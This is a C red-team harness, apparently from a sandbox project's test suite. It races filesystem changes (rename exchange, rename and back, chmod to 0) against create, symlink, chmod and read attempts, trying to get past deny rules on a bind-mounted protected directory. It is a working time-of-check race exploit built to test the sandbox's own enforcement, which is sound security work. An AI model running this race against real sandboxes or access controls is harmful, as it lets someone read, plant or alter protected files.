/* Red team 23: racing the deny groups' identity walk (crates/nono-policy/src/ancestor_memo.rs)
 * against the supervisor's act-as-child step, from inside the sandbox, under `--approve W`,
 * where W holds a bind mount of a deny entry E (made outside the sandbox).
 *
 *   walk RACE OP W A B NAME ATTEMPTS
 *
 * One thread changes the layout in a loop (RACE), the other makes ATTEMPTS tries (OP) at
 * W/A/m/NAME-i, i = 0..ATTEMPTS:
 *   RACE exchange: renameat2(W/A, W/B, RENAME_EXCHANGE); one of them holds the mount point m
 *                  (E), the other a plain m. A walk that saw the plain m and an act that
 *                  reaches E make a name in E.
 *   RACE vanish:   rename(W/A, W/B) and back; W/A holds the mount point. A walk made while
 *                  W/A is gone finds nothing, as before the change an act finds E again.
 *   RACE unsearch: chmod(W/A, 0) and back to 0755 (B unused); W/A holds the mount point. A
 *                  walk by a supervisor without CAP_DAC_READ_SEARCH then cannot stat W/A/m.
 *   OP create:     open(W/A/m/NAME-i, O_WRONLY|O_CREAT|O_EXCL), then write "planted\n".
 *   OP symlink:    symlink("W/own", W/A/m/NAME-i): a name in E that leads to a file of its own.
 *   OP chmod:      chmod(W/A/m/NAME, 0604) (NAME an existing file of E, 0600 there).
 *   OP read:       open(W/A/m/NAME, O_RDONLY) (NAME an existing file of E), read it; what was
 *                  read is printed as `read=...` (a leak if it is E's content).
 * Prints `attempts=N done=N` (tries whose OP succeeded) and, at the end, puts the layout back
 * (an odd number of exchanges is undone, W/A made searchable, W/B moved back to W/A). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *race;
static char pa[4096], pb[4096];
static atomic_int stop;
static long flips;

static void *toggler(void *arg) {
    (void)arg;
    while (!atomic_load(&stop)) {
        if (strcmp(race, "exchange") == 0) {
            if (renameat2(AT_FDCWD, pa, AT_FDCWD, pb, RENAME_EXCHANGE) == 0)
                flips++;
        } else if (strcmp(race, "vanish") == 0) {
            if (rename(pa, pb) == 0) {
                while (rename(pb, pa) != 0 && !atomic_load(&stop))
                    ;
            }
        } else {
            (void)chmod(pa, 0);
            (void)chmod(pa, 0755);
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc != 8) {
        fprintf(stderr, "usage: walk exchange|vanish|unsearch create|symlink|chmod|read W A B NAME ATTEMPTS\n");
        return 2;
    }
    race = argv[1];
    const char *op = argv[2], *w = argv[3], *a = argv[4], *b = argv[5], *name = argv[6];
    int attempts = atoi(argv[7]), done = 0, i;
    snprintf(pa, sizeof pa, "%s/%s", w, a);
    snprintf(pb, sizeof pb, "%s/%s", w, b);
    pthread_t t;
    pthread_create(&t, NULL, toggler, NULL);
    for (i = 0; i < attempts; i++) {
        char target[4096], own[4096], buf[4096];
        if (strcmp(op, "chmod") == 0) {
            snprintf(target, sizeof target, "%s/%s/m/%s", w, a, name);
            if (chmod(target, 0604) == 0)
                done++;
            continue;
        }
        if (strcmp(op, "read") == 0) {
            snprintf(target, sizeof target, "%s/%s/m/%s", w, a, name);
            int fd = open(target, O_RDONLY);
            if (fd >= 0) {
                ssize_t n = read(fd, buf, sizeof buf - 1);
                close(fd);
                if (n > 0) {
                    buf[n] = 0;
                    buf[strcspn(buf, "\n")] = 0;
                    printf("read=%s\n", buf);
                }
                done++;
            }
            continue;
        }
        snprintf(target, sizeof target, "%s/%s/m/%s-%d", w, a, name, i);
        if (strcmp(op, "create") == 0) {
            int fd = open(target, O_WRONLY | O_CREAT | O_EXCL, 0644);
            if (fd >= 0) {
                (void)!write(fd, "planted\n", 8);
                close(fd);
                done++;
            }
        } else {
            snprintf(own, sizeof own, "%s/own", w);
            if (symlink(own, target) == 0)
                done++;
        }
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    if (strcmp(race, "exchange") == 0 && flips % 2 == 1)
        (void)renameat2(AT_FDCWD, pa, AT_FDCWD, pb, RENAME_EXCHANGE);
    else if (strcmp(race, "vanish") == 0)
        (void)rename(pb, pa);
    else if (strcmp(race, "unsearch") == 0)
        (void)chmod(pa, 0755);
    printf("attempts=%d done=%d\n", attempts, done);
    return 0;
}
